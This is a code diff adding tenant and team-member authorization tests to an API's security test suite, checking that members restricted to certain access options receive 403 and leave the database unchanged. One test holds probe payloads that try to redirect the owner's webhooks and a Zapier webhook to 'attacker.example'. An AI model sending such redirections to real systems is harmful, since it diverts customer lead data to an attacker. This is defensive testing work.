@@ -6,6 +6,7 @@ import { changedTables, databaseChecksum } from './security/checksum';
 import { createVictimRows, fixtureBody, ID_ROUTE_FIXTURES, VICTIM_MARKER, type IsolationEnv, type VictimIds } from './security/fixtures';
 import { fillUrl, routeRecorder, type RouteInfo } from './security/routeTable';
 import { sampleOf } from './security/schemaSample';
+import { routeAccess } from '../src/http/routeAccess';
 
 /**
  * Tenant isolation matrix, generated from the app's own route table: every
@@ -113,3 +114,64 @@ test('another account gets 403/404, no data, and changes nothing on every id rou
   console.info(`tenant isolation matrix: ${idRoutes().length} id routes, ${calls} attacker calls`);
   expect(failures).toEqual([]);
 }, 180_000);
+
+/**
+ * Team members, for every access option: a member of the victim's team given one option reaches
+ * no route whose access (api/src/http/routeAccess.ts) is another option or `account_owner` — the
+ * answer is 403 and the database is unchanged. A member of the victim's own team is the attacker
+ * the other-account rows cannot catch: it works on the victim's account by design.
+ */
+const MEMBER_OPTIONS = ['leads', 'ai_suggest', 'whitelabel', 'wallet'] as const;
+
+test('every route states its access, in the route table', () => {
+  const missing = routes.filter((r) => routeAccess(r.method, r.url) === undefined).map((r) => r.key);
+  expect(missing).toEqual([]);
+});
+
+test('a team member reaches only the routes of its access options: every route × every option', async () => {
+  const members: Record<string, Account> = {};
+  for (const option of MEMBER_OPTIONS) members[option] = await makeAccount(ctx, { email: `member-${option}@victim.test`, userType: 'team_member', modules: [option], teamOwnerId: victim.id });
+  const failures: string[] = [];
+  let calls = 0;
+  let guarded = 0;
+  for (const route of routes) {
+    const access = routeAccess(route.method, route.url);
+    if (access === undefined || access === 'public' || access === 'signed_in') continue;
+    guarded++;
+    const fixture = ID_ROUTE_FIXTURES[route.key];
+    const url = fillUrl(route.url, fixture ? fixture.params(ids) : Object.fromEntries(route.params.map((p) => [p, 1])));
+    const before = await databaseChecksum(ctx.db);
+    for (const option of MEMBER_OPTIONS) {
+      if (access === option) continue;
+      calls++;
+      const res = await ctx.app.inject({ method: route.method as 'GET', url, headers: members[option]!.headers, ...(route.method === 'GET' || route.method === 'DELETE' ? {} : { payload: {} }) });
+      if (res.statusCode !== 403) failures.push(`${route.key} (${access}) as a member with ${option}: ${res.statusCode} ${res.body.slice(0, 160)}`);
+    }
+    const after = await databaseChecksum(ctx.db);
+    if (after !== before) failures.push(`${route.key}: refused member calls changed ${changedTables(before, after).join(', ')}`);
+  }
+  console.info(`team-member matrix: ${guarded} routes × ${MEMBER_OPTIONS.length} access options, ${calls} refused calls checked`);
+  expect(failures).toEqual([]);
+  // The options do open their own routes.
+  const open = async (option: (typeof MEMBER_OPTIONS)[number], url: string) => (await ctx.app.inject({ method: 'GET', url, headers: members[option]!.headers })).statusCode;
+  expect(await open('leads', '/api/campaigns')).toBe(200);
+  expect(await open('ai_suggest', '/api/business-details/data')).toBe(200);
+  expect(await open('leads', '/api/me')).toBe(200);
+}, 180_000);
+
+test('a member limited to leads cannot touch the owner integrations (the probe reproductions)', async () => {
+  const member = await makeAccount(ctx, { email: 'leads-only@victim.test', userType: 'team_member', modules: ['leads'], teamOwnerId: victim.id });
+  const before = await databaseChecksum(ctx.db);
+  for (const [method, url, payload] of [
+    ['GET', '/api/integrations/webhooks', undefined],
+    ['PUT', '/api/integrations/webhooks/1', { name: 'x', url: 'https://attacker.example/', events: ['lead.created'] }],
+    ['PUT', '/api/crm/connections/zapier/webhook', { url: 'https://attacker.example/' }],
+    ['DELETE', '/api/crm/connections/groove', undefined],
+    ['POST', '/api/user-api-key', { name: 'mine' }],
+    ['GET', '/api/credit-usage-statistic', undefined],
+  ] as const) {
+    const res = await ctx.app.inject({ method, url, headers: member.headers, ...(payload ? { payload } : {}) });
+    expect({ method, url, status: res.statusCode }).toEqual({ method, url, status: 403 });
+  }
+  expect(await databaseChecksum(ctx.db)).toBe(before);
+});
